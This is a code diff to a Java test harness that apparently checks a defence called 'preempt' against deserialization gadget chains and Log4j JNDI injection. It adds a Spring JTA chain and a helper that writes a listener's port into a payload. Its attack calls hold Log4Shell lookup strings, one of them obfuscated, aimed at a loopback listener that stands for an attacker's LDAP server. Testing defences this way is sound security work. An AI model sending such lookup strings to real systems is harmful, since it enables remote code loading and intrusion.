@@ -2,8 +2,10 @@ import java.io.InputStream;
 import java.net.InetAddress;
 import java.net.ServerSocket;
 import java.net.Socket;
+import java.nio.charset.StandardCharsets;
 import java.nio.file.Files;
 import java.nio.file.Path;
+import java.util.Arrays;
 import java.util.LinkedHashMap;
 import java.util.List;
 import java.util.Map;
@@ -39,12 +41,14 @@ public final class Corpus {
         APPS.put("groovy", new GroovyApp());
         APPS.put("sessions", new SessionsApp());
         APPS.put("bookmarks", new BookmarksApp());
+        APPS.put("spring", new SpringApp());
         APPS.put("log", new LogApp());
         APPS.put("yaml", new YamlApp());
         APPS.put("xstream", new XStreamApp());
         Listener message = new Listener("message");
         Listener context = new Listener("context");
         Listener nested = new Listener("nested");
+        Listener spring = new Listener("spring");
         work("normal", inputs);
         if (!attack) {
             System.out.println("done");
@@ -59,6 +63,7 @@ public final class Corpus {
         attack("groovy", "groovy", bytes(payloads, "groovy"));
         attack("urldns-sessions", "sessions", bytes(payloads, "urldns-sessions"), () -> ProbeResolver.asked("urldns-sessions.invalid"));
         attack("urldns-bookmarks", "bookmarks", bytes(payloads, "urldns-bookmarks"), () -> ProbeResolver.asked("urldns-bookmarks.invalid"));
+        attack("spring-jta", "spring", withPort(bytes(payloads, "spring-jta"), spring.port()), spring::reached);
         attack("log4j-message", "log", new String[] {"mallory", "${jndi:ldap://127.0.0.1:" + message.port() + "/a}"}, message::reached);
         attack("log4j-context", "log", new String[] {"${jndi:ldap://127.0.0.1:" + context.port() + "/a}", "curl/8.5"}, context::reached);
         attack("log4j-nested", "log", new String[] {"mallory", "${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://127.0.0.1:" + nested.port() + "/a}"},
@@ -110,14 +115,23 @@ public final class Corpus {
         return outcome[0];
     }
 
-    /** "refused MESSAGE" if preempt refused anywhere in the causes (libraries wrap exceptions), else "threw CLASS: MESSAGE". */
+    /**
+     * "refused MESSAGE" if preempt refused anywhere in the causes (libraries wrap exceptions), else
+     * "threw CLASS: MESSAGE", and "(root CLASS: MESSAGE)" when the root cause is another exception.
+     */
     private static String describe(Throwable e) {
+        Throwable root = e;
         for (Throwable c = e; c != null; c = c.getCause()) {
             if (c instanceof SecurityException && String.valueOf(c.getMessage()).startsWith("preempt cfi:")) {
                 return "refused " + c.getMessage();
             }
+            root = c;
         }
-        return "threw " + e.getClass().getName() + ": " + String.valueOf(e.getMessage()).lines().findFirst().orElse("");
+        return "threw " + firstLine(e) + (root == e ? "" : " (root " + firstLine(root) + ")");
+    }
+
+    private static String firstLine(Throwable e) {
+        return e.getClass().getName() + ": " + String.valueOf(e.getMessage()).lines().findFirst().orElse("");
     }
 
     /** Waits up to 3 s for every chain's sink (a process the chain started may take a moment), then reports each. */
@@ -133,6 +147,19 @@ public final class Corpus {
 
     private static byte[] bytes(Path payloads, String chain) throws Exception {
         return Files.readAllBytes(payloads.resolve(chain + ".ser"));
+    }
+
+    /** The payload with its port placeholder ("00000", see Attacker.PORT) replaced by a listener's port, padded to the same length. */
+    private static byte[] withPort(byte[] payload, int port) {
+        byte[] placeholder = ":00000/".getBytes(StandardCharsets.US_ASCII);
+        byte[] actual = String.format(":%05d/", port).getBytes(StandardCharsets.US_ASCII);
+        for (int i = 0; i + placeholder.length <= payload.length; i++) {
+            if (Arrays.equals(payload, i, i + placeholder.length, placeholder, 0, placeholder.length)) {
+                System.arraycopy(actual, 0, payload, i, actual.length);
+                return payload;
+            }
+        }
+        throw new IllegalArgumentException("no port placeholder in the payload");
     }
 
     /** A loopback listener standing for the attacker's LDAP server: it counts connections, reads the first request and hangs up. */
